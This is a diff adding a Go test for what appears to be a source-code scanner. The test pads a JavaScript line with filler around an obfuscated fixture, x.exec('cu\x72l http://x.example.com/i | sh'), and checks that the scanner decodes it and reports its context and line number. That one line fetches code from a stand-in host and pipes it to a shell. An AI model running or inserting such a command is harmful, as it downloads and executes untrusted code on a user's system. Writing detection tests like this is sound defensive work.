@@ -64,3 +64,26 @@ func TestAShortReadingIsKeptWhole(t *testing.T) {
 		}
 	}
 }
+
+func TestOfALongLineOnlyWhatIsNearIsReadAgain(t *testing.T) {
+	pad := strings.Repeat("function a(b){return b+1};", 20_000)
+	text := pad + "x.exec('cu\\x72l http://x.example.com/i | sh');" + pad + "\nlast()\n"
+	readings, _ := spelling.Readings(gate.LanguageJavaScript, []byte(text))
+	if len(readings) == 0 {
+		t.Fatal("nothing is read otherwise")
+	}
+	for _, r := range readings {
+		near := r.Near()
+		if !bytes.Contains(near.Content, []byte("x.exec('curl http")) || len(near.Content) > 64<<10 || len(near.Marks) == 0 {
+			t.Errorf("%d bytes are kept, %d marks", len(near.Content), len(near.Marks))
+		}
+		if got := bytes.Count(near.Content, []byte{'\n'}) + 1; got != len(near.Lines) {
+			t.Errorf("%d lines, and numbers for %d", got, len(near.Lines))
+		}
+		for i, line := range bytes.Split(near.Content, []byte{'\n'}) {
+			if bytes.Contains(line, []byte("exec")) && near.Lines[i] != 1 {
+				t.Errorf("it is said to stand on line %d", near.Lines[i])
+			}
+		}
+	}
+}
